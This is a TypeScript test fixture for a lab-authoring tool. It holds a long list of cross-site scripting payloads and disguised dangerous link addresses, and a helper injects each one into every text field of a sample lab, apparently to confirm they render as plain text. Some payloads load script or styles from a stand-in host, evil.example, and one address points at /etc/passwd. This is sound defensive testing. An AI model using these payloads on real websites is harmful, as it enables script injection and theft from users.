// Text that becomes script if a page treats text as markup, and every location of a lab that contains text.

/** Classic payloads. Each would call `alert`, load something, or break out of its context. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<IMG SRC=javascript:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)//',
  '<svg><animate onbegin=alert(1) attributeName=x dur=indefinite>',
  '<math><mtext></mtext><img src=x onerror=alert(1)></math>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '&#106;&#97;vascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '{@html "<img src=x onerror=alert(1)>"}',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '`-alert(1)-`',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '＜script＞alert(1)＜/script＞',
  '<​script>alert(1)</script>',
  'url(javascript:alert(1))',
  'expression(alert(1))',
  '__proto__',
  'constructor',
];

/** Addresses that no link may have, with the disguises that old and new browsers accept. */
export const addresses: readonly string[] = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '&#x6A;avascript:alert(1)',
  'java%73cript:alert(1)',
  'javascript%3Aalert(1)',
  'javascript%253Aalert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#1;javascript:alert(1)',
  '%01javascript:alert(1)',
  'jav%0Aascript:alert(1)',
  'data:text/html,x',
  'vbscript:x',
  'file:///etc/passwd',
  'blob:https://example.org/1',
  'http://example.org/',
  'ftp://example.org/',
  '//evil.example/',
  '/\\\\evil.example/',
  '\\\\\\\\evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https://user@evil.example/',
  'mailto:a@example.org',
  'view-source:x',
];

type Files = Readonly<Record<string, string>>;

/** Returns Markdown that renders as exactly this text. */
export const asMarkdown = (text: string): string => text.replace(/[!-/:-@[-`{-~]/g, '\\$&');
/** Returns text as the value of an attribute in double quotes. */
const asAttribute = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/** The other fields of a parameter that the lab itself defines. */
const typed = 'value = 0.5\nunit = "1"\nprovenance = "assumed"';

/** Every location of a lab that contains plain text: a file, its current text, and the replacement. */
const plain: readonly [file: string, old: string, put: (text: string) => string][] = [
  ['lab.md', 'title: A lab with everything in it', (text) => `title: ${JSON.stringify(text)}`],
  [
    'lab.md',
    'summary: Each of the other files here breaks it in one place.',
    (text) => `summary: ${JSON.stringify(text)}`,
  ],
  ['lab.md', 'cite: "A document"', (text) => `cite: ${JSON.stringify(text)}`],
  [
    'lab.md',
    'aliases: { growing: larger }',
    (text) => `outputs: { external_throughput: ${JSON.stringify(text)} }\naliases: { growing: larger }`,
  ],
  ['lab.md', 'title: "v4"', (text) => `title: ${JSON.stringify(text)}`],
  ['lab.md', 'note{title="A note"}', (text) => `note{title="${asAttribute(text)}"}`],
  ['lab.md', 'title="What follows"', (text) => `title="${asAttribute(text)}"`],
  ['lab.md', 'place="page 1"', (text) => `place="${asAttribute(text)}"`],
  ['lab.md', 'alt="A square"', (text) => `alt="${asAttribute(text)}"`],
  ['lab.md', 'title="Lookups a second"', (text) => `title="${asAttribute(text)}" summary="${asAttribute(text)}"`],
  ['lab.md', 'title="Names"', (text) => `title="${asAttribute(text)}"`],
  ['lab.md', 'title="Inside"', (text) => `title="${asAttribute(text)}"`],
  ['lab.md', '"nobody says how long names are"', (text) => `"${asMarkdown(text)}"`],
  ['lab.md', '"page 2"', (text) => `"${asMarkdown(text)}"`],
  ['lab.md', 'A paragraph before', asMarkdown],
  ['lab.md', '[a link]', (text) => `[${asMarkdown(text)}]`],
  ['lab.md', '### A heading', (text) => `### ${asMarkdown(text)}`],
  ['lab.md', '| Names |', (text) => `| ${asMarkdown(text)} |`],
  ['lab.md', 'A quotation', asMarkdown],
  ['lab.md', '[The pages]', (text) => `[${asMarkdown(text)}]`],
  ['lab.md', 'What happens to a lookup?', asMarkdown],
  ['lab.md', 'Nothing.', asMarkdown],
  ['lab.md', 'Think.', asMarkdown],
  ['lab.md', 'It takes longer.\n\n::chart', (text) => `${asMarkdown(text)}\n\n::chart`],
  ['lab.md', 'Yes.', asMarkdown],
  ['lab.md', 'Divide.', asMarkdown],
  ['lab.md', '[8 KB]', (text) => `[${asMarkdown(text)}]`],
  ['notes.teacher.md', 'Reading a table.', asMarkdown],
  ['data/lookups.toml', '"Lookups: replace these example values by published ones"', JSON.stringify],
  [
    'data/lookups.toml',
    '"Your document, and the place in it"',
    (text) => `${JSON.stringify(text)}\nnote = ${JSON.stringify(text)}`,
  ],
  ['data/lookups.toml', '"Names per directory"', JSON.stringify],
  [
    'data/lookups.toml',
    'unit = "names"',
    (text) => `unit = ${JSON.stringify(text)}\nvalues = [{ is = 2000, title = ${JSON.stringify(text)} }]`,
  ],
  [
    'data/lookups.toml',
    'title = "External throughput"\ngroup = "v4"',
    (text) => `title = ${JSON.stringify(text)}\ngroup = ${JSON.stringify(text)}`,
  ],
  [
    'parameters.toml',
    '[lookups_per_update]\ninherited_from = "zfs-directories"',
    (text) => `[lookups_per_update]\ntitle = ${JSON.stringify(text)}\nsource = "Counted."\n${typed}`,
  ],
];

/**
 * Returns the lab in tests/bad-labs/base with a text in all locations that contain text. The lab compiles and shows
 * exactly this text in each of them.
 */
export function withText(base: Files, text: string): Files {
  const files: Record<string, string> = { ...base };
  for (const [file, old, put] of plain) {
    const before = files[file] ?? '';
    if (!before.includes(old)) throw new Error(`${file} has no ${old}`);
    files[file] = before.replace(old, () => put(text));
  }
  return files;
}

/** The minimum number of locations in which `withText` puts the text. */
export const textPlaces = plain.length;
